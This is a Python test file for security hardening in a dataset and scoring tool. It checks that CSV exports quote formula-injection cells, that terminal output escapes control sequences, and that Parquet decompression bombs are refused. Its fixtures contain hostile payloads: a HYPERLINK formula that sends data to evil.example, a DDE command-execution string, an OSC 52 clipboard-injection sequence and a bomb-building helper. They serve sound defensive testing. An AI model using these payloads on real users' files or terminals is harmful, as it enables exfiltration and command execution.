"""Hardening (issue #11): the files and terminal text the studio writes from hostile values."""

from __future__ import annotations

import csv
import io

import pytest

from skynet_core.cases import Case
from skynet_core.cli import run
from skynet_core.datasets import DatasetError, load_dataset
from skynet_core.display import terminal_text
from skynet_core.feedback import export_rows, review, rows_csv
from skynet_core.results import CaseResult, CaseStatus
from skynet_core.runs.export import safe_csv_cell, write_results

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
]


def test_cells_that_start_like_a_formula_get_a_quote():
    for text in FORMULAS:
        assert safe_csv_cell(text) == "'" + text
    assert safe_csv_cell("\rx") == "\\rx"  # a carriage return is escaped (issue 21), so it starts nothing
    assert safe_csv_cell("fine =1") == "fine =1"
    assert safe_csv_cell(-0.5) == -0.5
    assert safe_csv_cell(None) is None


def test_score_out_csv_neutralises_formulas_in_every_text_cell(tmp_path):
    results = [
        CaseResult(
            id=text, split="train", candidate=text, status=CaseStatus.OK, score=-1.0, feedback=text, scores={"=x": 1.0}
        )
        for text in FORMULAS
    ]
    path = write_results(results, tmp_path / "r.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell == "-1.0", row
    assert rows[1][0] == "'" + FORMULAS[0]


def test_feedback_review_csv_neutralises_formulas():
    pairs = [
        (
            Case(id=text, input={"q": "1"}, output="x"),
            CaseResult(id=text, status=CaseStatus.OK, score=1.0, feedback=text),
        )
        for text in FORMULAS
    ]
    rows = export_rows(pairs, review(pairs), {})
    cells = [cell for row in csv.reader(io.StringIO(rows_csv(rows).decode(), newline="")) for cell in row]
    assert "'" + FORMULAS[1] in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


HOSTILE_TEXT = "ok\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\rfake line\u202eevil\x9b"


def test_terminal_text_shows_control_characters_as_escapes():
    shown = terminal_text(HOSTILE_TEXT)
    assert shown == "ok\\e]52;c;ZWNobyBwd25lZA==\\x07\\e[2J\\rfake line\\u202eevil\\x9b"
    assert terminal_text("Plain feedback: é, 日本") == "Plain feedback: é, 日本"


def test_score_text_output_carries_no_control_character(pool, tmp_path):
    metric = tmp_path / "metric.py"
    metric.write_text(f"def score(input, output, expected=None):\n    return 1.0, {{'feedback': {HOSTILE_TEXT!r}}}\n")
    data = tmp_path / "cases.jsonl"
    data.write_text('{"id": "a\\u001b[2J", "input": {"q": "1"}, "output": "x"}\n')
    out, err = io.StringIO(), io.StringIO()
    assert run(["score", str(metric), "--data", str(data)], stdout=out, stderr=err) == 0
    text = out.getvalue() + err.getvalue()
    assert not [char for char in text if (ord(char) < 32 and char != "\n") or 0x7F <= ord(char) <= 0x9F], text
    assert "\\e]52;c;" in text


def bomb(path, rows: int, text: str = "What is 2+2?") -> None:
    """A small Parquet file of ``rows`` identical rows: dictionary encoding and compression keep it tiny."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table({"input.question": pa.array([text] * rows), "output": pa.array(["4"] * rows)})
    pq.write_table(table, path, compression="zstd", row_group_size=rows)


def test_parquet_decompression_bomb_is_refused_by_rows_before_reading(tmp_path, pool):
    path = tmp_path / "bomb.parquet"
    bomb(path, 2_000_000)
    assert path.stat().st_size < 200_000
    with pytest.raises(DatasetError, match=r"more than 1,000,000 cases.*SKYNET_MAX_ROWS"):
        load_dataset(path)
    metric = tmp_path / "metric.py"
    metric.write_text("def score(input, output, expected=None):\n    return 1.0, {'feedback': 'ok'}\n")
    out, err = io.StringIO(), io.StringIO()
    assert run(["check", str(metric), "--data", str(path)], stdout=out, stderr=err) == 2
    assert "more than 1,000,000 cases" in err.getvalue()


def test_decoded_size_and_row_limits_are_configurable(tmp_path, monkeypatch):
    path = tmp_path / "wide.parquet"
    bomb(path, 50_000, text="x" * 200)  # about 10 MB once decoded
    monkeypatch.setenv("SKYNET_MAX_DECODED_MB", "1")
    with pytest.raises(DatasetError, match=r"more than 1 MB of data once decoded.*SKYNET_MAX_DECODED_MB"):
        load_dataset(path)
    monkeypatch.delenv("SKYNET_MAX_DECODED_MB")
    assert len(load_dataset(path).cases) == 50_000
    monkeypatch.setenv("SKYNET_MAX_ROWS", "10")
    jsonl = tmp_path / "cases.jsonl"
    jsonl.write_text("".join(f'{{"input": {{"q": "{i}"}}, "output": "x"}}\n' for i in range(11)))
    with pytest.raises(DatasetError, match="more than 10 cases"):
        load_dataset(jsonl)
    csv_path = tmp_path / "cases.csv"
    csv_path.write_text("input.q,output\n" + "".join(f"{i},x\n" for i in range(11)))
    with pytest.raises(DatasetError, match="more than 10 cases"):
        load_dataset(csv_path)
